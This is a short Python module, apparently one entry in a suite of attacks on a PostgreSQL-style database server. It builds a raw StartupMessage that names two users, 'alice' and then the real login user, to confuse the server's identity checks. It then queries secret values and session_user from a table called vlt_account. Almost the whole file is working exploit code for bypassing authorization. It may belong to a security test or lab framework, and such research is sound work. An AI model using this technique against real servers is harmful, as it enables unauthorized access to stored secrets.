"""Names two users in one StartupMessage: first one with a license, then the one who logs in."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    pairs = f"user\0alice\0database\0{server.dbname}\0user\0{server.user}\0\0".encode()
    hello = (len(pairs) + 8).to_bytes(4, "big") + (3 << 16).to_bytes(4, "big") + pairs
    with server.raw() as client:
        client.send(hello)
        client.replies()
        return ask(client, query(b"SELECT secret, session_user FROM vlt_account"))
